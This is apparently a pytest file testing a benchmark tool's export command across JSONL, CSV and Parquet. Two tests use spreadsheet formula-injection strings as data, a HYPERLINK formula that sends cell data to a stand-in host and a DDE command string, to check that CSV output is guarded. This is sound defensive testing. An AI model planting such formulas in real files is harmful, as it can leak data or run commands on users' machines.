"""``mirrorcraft export``: records round-trip through JSONL; CSV has one row per episode."""

from __future__ import annotations

import csv
import json
import os
import socket
import sqlite3
import subprocess
import sys
from contextlib import closing
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from mirrorcraft.cli import main
from mirrorcraft.commands.export_cmd import COLUMN_TYPES, COLUMNS
from mirrorcraft.runner.records import UNRECORDED_WHEN_NONE, EpisodeRecord
from tests.test_analysis_helpers import synthetic_study, write_db, write_jsonl


def test_export_jsonl_and_csv(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    records, steps = synthetic_study(seed=3, worlds=("plains-1",), reps=1)
    db = write_db(tmp_path / "r.db", records, steps)
    assert main(["export", str(db), "--out", str(tmp_path / "r.jsonl")]) == 0
    lines = (tmp_path / "r.jsonl").read_text().splitlines()
    assert len(lines) == len(records)
    assert {json.loads(line)["episode_id"] for line in lines} == {r.episode_id for r in records}
    assert main(["analyze", str(tmp_path / "r.jsonl")]) == 0  # the export reads back
    assert main(["export", str(db), "--format", "csv", "--out", str(tmp_path / "r.csv")]) == 0
    rows = list(csv.DictReader((tmp_path / "r.csv").open()))
    assert len(rows) == len(records) and json.loads(rows[0]["score_trace"]) is not None
    assert main(["export", str(tmp_path / "missing.db"), "--out", str(tmp_path / "x")]) == 2
    capsys.readouterr()


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_export_never_writes_over_a_results_database(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str
) -> None:
    """``--format jsonl --out results.sqlite`` used to replace the run's results (here the
    export's own input) with the export; it is refused and both databases are untouched."""
    records, steps = synthetic_study(seed=3, worlds=("plains-1",), reps=1)
    db = write_db(tmp_path / "r.db", records, steps)
    other = write_db(tmp_path / "other.sqlite", records, steps)
    before = db.read_bytes(), other.read_bytes()
    for out in (db, other):
        assert main(["export", str(db), "--format", fmt, "--out", str(out)]) == 2
        assert "is a SQLite database" in capsys.readouterr().err
    assert (db.read_bytes(), other.read_bytes()) == before
    assert main(["analyze", str(db)]) == 0


def _awkward(records: list[EpisodeRecord]) -> list[EpisodeRecord]:
    """The study's records with the text and values an export must carry unchanged."""
    out = []
    for i, r in enumerate(records):
        out.append(
            replace(
                r,
                experiment='grid "α", part 1\nsecond line',
                agent_error="in finish: boom, then\r\nTraceback ... ✓" if i % 2 else "",
                cost_usd=None if i % 3 == 0 else r.cost_usd,
                call_budget=None if i % 2 else 40,
                wall_seconds=0.0,
                agent_origin={"kind": "builtin", "options_hash": "abc"} if i % 2 else {},
                memory={"plans": 2, "store": {"skill": 3}, "note": 'naïve, "quoted"'}
                if i % 2
                else {},
                template_hashes={"react": "h1"},
                failed_attempts={"rate_limit": 2, "timeout": 1} if i % 2 else None,
                unusable_replies=min(i % 3, r.model_calls) if i % 2 else None,
                rules_title=None if i % 2 or r.rules == "vanilla" else 'my suite, "quoted"',
            )
        )
    return out


def _expected(r: EpisodeRecord) -> dict[str, Any]:
    """The record as an export row reads back: a field it did not record is a null."""
    return {**dict.fromkeys(UNRECORDED_WHEN_NONE), **r.to_json()}


def test_every_record_field_is_a_column() -> None:
    """CSV and Parquet exports dropped failed_attempts, unusable_replies and rules_title:
    a field added to the record must be exported too."""
    assert set(COLUMNS) == set(EpisodeRecord.__dataclass_fields__) | {"is_mirror"}


def _from_csv(name: str, cell: str) -> Any:
    kind = COLUMN_TYPES[name]
    if cell == "" and (kind != "string" or name in UNRECORDED_WHEN_NONE):
        return None
    return {
        "string": str,
        "int64": int,
        "float64": float,
        "bool": lambda c: {"True": True, "False": False}[c],
        "json": json.loads,
    }[kind](cell)


def test_export_csv_round_trips_every_field(tmp_path: Path) -> None:
    """Every column of every row reads back as the record's value: nested fields (memory and
    agent_origin too, once written as Python reprs) as JSON text; commas, quotes, newlines and
    non-ASCII text in text fields intact; a null cost as an empty cell."""
    records, steps = synthetic_study(seed=3, worlds=("plains-1",), reps=1)
    records = _awkward(records)
    db = write_db(tmp_path / "r.db", records, steps)
    assert main(["export", str(db), "--out", str(tmp_path / "r.csv")]) == 0
    with (tmp_path / "r.csv").open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert tuple(rows[0]) == COLUMNS
    by_id = {r.episode_id: _expected(r) for r in records}
    assert len(rows) == len(records)
    for row in rows:
        assert {k: _from_csv(k, v) for k, v in row.items()} == by_id[row["episode_id"]]


def test_export_of_no_records_keeps_the_columns(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """An export with no episodes (all left out) was an empty CSV, without even a header."""
    records, steps = synthetic_study(seed=3, worlds=("plains-1",), reps=1)
    db = write_db(tmp_path / "r.db", records[:2], steps, status={records[0].episode_id: "x"})
    db2 = write_db(tmp_path / "e.db", [], {})
    assert main(["export", str(db2), "--out", str(tmp_path / "e.csv")]) == 0
    assert (tmp_path / "e.csv").read_text().splitlines() == [",".join(COLUMNS)]
    assert main(["export", str(db), "--out", str(tmp_path / "r.csv")]) == 0
    assert "left out: 1 infrastructure record(s) (x), never scored" in capsys.readouterr().err


def test_export_parquet_types_do_not_depend_on_the_values(tmp_path: Path) -> None:
    """Parquet export of any run of the packaged agents failed (an empty agent_origin has no
    Parquet type); column types followed the values (a cost column all null in one run was
    typed null). Every export now has the same schema, rows included or not."""
    pa = pytest.importorskip("pyarrow")
    pq = pytest.importorskip("pyarrow.parquet")
    records, steps = synthetic_study(seed=3, worlds=("plains-1",), reps=1)
    plain = [replace(r, cost_usd=None, wall_seconds=0) for r in records]  # type: ignore[arg-type]
    schemas = []
    for name, recs in (("plain", plain), ("awkward", _awkward(records)), ("empty", [])):
        db = write_db(tmp_path / f"{name}.db", recs, steps if recs else {})
        out = tmp_path / f"{name}.parquet"
        assert main(["export", str(db), "--out", str(out)]) == 0
        table = pq.read_table(out)
        schemas.append(table.schema)
        assert table.column_names == list(COLUMNS)
        by_id = {r.episode_id: _expected(r) for r in recs}
        for row in table.to_pylist():
            doc = {
                k: json.loads(v) if COLUMN_TYPES[k] == "json" and v is not None else v
                for k, v in row.items()
            }
            assert doc == by_id[row["episode_id"]]
    assert schemas[0] == schemas[1] == schemas[2]
    assert schemas[0].field("cost_usd").type == pa.float64()


def test_export_out_that_is_a_directory_or_fails_midway(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A write that fails part way (a full disk) left half a file in place of the earlier
    export; now the earlier file is kept and no partial file is left."""
    records, steps = synthetic_study(seed=3, worlds=("plains-1",), reps=1)
    db = write_db(tmp_path / "r.db", records, steps)
    assert main(["export", str(db), "--out", str(tmp_path)]) == 2
    assert "is a directory" in capsys.readouterr().err
    out = tmp_path / "r.jsonl"
    assert main(["export", str(db), "--out", str(out)]) == 0
    before = out.read_bytes()
    calls = []

    def full_disk(self: EpisodeRecord) -> str:
        calls.append(1)
        if len(calls) > 3:
            raise OSError(28, "No space left on device")
        return json.dumps(self.to_json(), sort_keys=True)

    monkeypatch.setattr(EpisodeRecord, "json_text", full_disk)
    assert main(["export", str(db), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert "cannot write" in err and "No space left on device" in err
    assert out.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r.db", "r.jsonl"]


def test_export_of_an_unfinished_or_running_run_says_so(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """An export of a run killed part way, or still running, said only "wrote N episode
    records", as if the experiment were complete; it now says how many of the spec's
    episodes are missing, and (as analyze does) that a run is still writing the folder."""
    records, steps = synthetic_study(seed=3, worlds=("plains-1",), reps=1)
    folder = tmp_path / "run"
    folder.mkdir()
    db = write_db(folder / "results.sqlite", records, steps)
    spec = {
        "schema_version": 1,
        "name": "t",
        "worlds": ["plains-1"],
        "rules": ["vanilla", "M01"],
        "tasks": ["diamond"],
        "agents": ["random"],
        "budget": 5,
    }
    with closing(sqlite3.connect(db)) as con, con:
        con.execute("CREATE TABLE meta (key TEXT PRIMARY KEY, value TEXT NOT NULL)")
        con.execute("INSERT INTO meta VALUES ('spec', ?)", (json.dumps(spec),))
    lock = {"pid": os.getpid(), "host": socket.gethostname(), "started": "2026-01-01T00:00:00"}
    (folder / "run.lock").write_text(json.dumps(lock))
    assert main(["export", str(db), "--out", str(tmp_path / "e.csv")]) == 0
    err = capsys.readouterr().err
    assert "not run yet: 2 of the 2 episodes its spec plans are not in the export" in err
    assert f"a run is still writing {folder} (pid {os.getpid()} on " in err
    assert main(["analyze", str(db), "--agent", "react", "--agent", "reflexion"]) == 0
    assert "a run is still writing" in capsys.readouterr().out

    ended = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], check=True,
                           capture_output=True, text=True)  # fmt: skip
    (folder / "run.lock").write_text(json.dumps({**lock, "pid": int(ended.stdout)}))
    assert main(["export", str(db), "--out", str(tmp_path / "e.csv")]) == 0
    err = capsys.readouterr().err
    assert "not run yet: 2 of the 2" in err and "still writing" not in err


def test_export_takes_the_record_options_its_errors_name(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Records of a user's agent were refused with "declare one with --agent", an option
    export did not have (nor --skip-invalid, which the refusal also names): such results
    could not be exported at all."""
    records, _ = synthetic_study(seed=3, worlds=("plains-1",), reps=1)
    mine = [replace(r, agent="my-agent") if i % 2 else r for i, r in enumerate(records)]
    path = write_jsonl(tmp_path / "r.jsonl", mine)
    out = tmp_path / "e.jsonl"
    assert main(["export", str(path), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert "declare one with --agent" in err and "--skip-invalid" in err
    assert main(["export", str(path), "--out", str(out), "--agent", "my-agent"]) == 0
    assert len(out.read_text().splitlines()) == len(mine)
    assert main(["export", str(path), "--out", str(out), "--skip-invalid"]) == 0
    err = capsys.readouterr().err
    assert f"left out: {len(mine) // 2} inconsistent record(s)" in err
    assert "agent 'my-agent' is not a known configuration" in err
    assert len(out.read_text().splitlines()) == len(mine) - len(mine) // 2


def test_export_through_a_link_writes_the_file_it_names(tmp_path: Path) -> None:
    """``--out latest.csv``, a link to a run's export, is written through (the link stays),
    as it was before exports were written beside their destination and moved into place."""
    records, steps = synthetic_study(seed=3, worlds=("plains-1",), reps=1)
    db = write_db(tmp_path / "r.db", records[:3], steps)
    (tmp_path / "runs").mkdir()
    real = tmp_path / "runs" / "e.csv"
    real.write_text("old\n")
    link = tmp_path / "latest.csv"
    link.symlink_to(real)
    assert main(["export", str(db), "--out", str(link)]) == 0
    assert link.is_symlink() and len(real.read_text().splitlines()) == 4


def test_csv_text_a_spreadsheet_would_run_is_guarded_unless_raw(tmp_path: Path) -> None:
    """An agent's error text or a plugin's model name that starts like a formula is written
    with a leading apostrophe (a spreadsheet shows it as text); numbers, JSON and the JSONL
    export are untouched; ``--csv-raw`` writes the text as stored."""
    records, steps = synthetic_study(seed=3, worlds=("plains-1",), reps=1)
    evil = '=HYPERLINK("http://x.example/?"&A1,"see")'
    records = [
        replace(r, agent_error=evil if i == 0 else "", model="@cmd" if i == 1 else r.model)
        for i, r in enumerate(records)
    ]
    db = write_db(tmp_path / "r.db", records, steps)
    assert main(["export", str(db), "--out", str(tmp_path / "safe.csv")]) == 0
    assert main(["export", str(db), "--out", str(tmp_path / "raw.csv"), "--csv-raw"]) == 0
    assert main(["export", str(db), "--out", str(tmp_path / "r.jsonl")]) == 0
    first, second = records[0].episode_id, records[1].episode_id
    safe = {r["episode_id"]: r for r in csv.DictReader((tmp_path / "safe.csv").open())}
    raw = {r["episode_id"]: r for r in csv.DictReader((tmp_path / "raw.csv").open())}
    assert safe[first]["agent_error"] == "'" + evil
    assert safe[second]["model"] == "'@cmd"
    assert raw[first]["agent_error"] == evil and raw[second]["model"] == "@cmd"
    assert safe[first]["score"] == str(records[0].score)
    assert json.loads(safe[first]["milestones"]) == records[0].milestones
    stored = [json.loads(line) for line in (tmp_path / "r.jsonl").read_text().splitlines()]
    assert {r["episode_id"]: r["agent_error"] for r in stored}[first] == evil
    assert main(["export", str(db), "--out", str(tmp_path / "x.jsonl"), "--csv-raw"]) == 2


def test_report_csv_tables_guard_formulas_but_keep_negative_numbers() -> None:
    from mirrorcraft.report.render import Table, render_csv

    table = Table("t", "T", ["model", "RIE"], [["=cmd|' /C calc'!A0", "-0.25"], ["-x", None]])
    rows = list(csv.reader(render_csv(table).splitlines()))
    assert rows[1] == ["'=cmd|' /C calc'!A0", "-0.25"]
    assert rows[2] == ["'-x", ""]
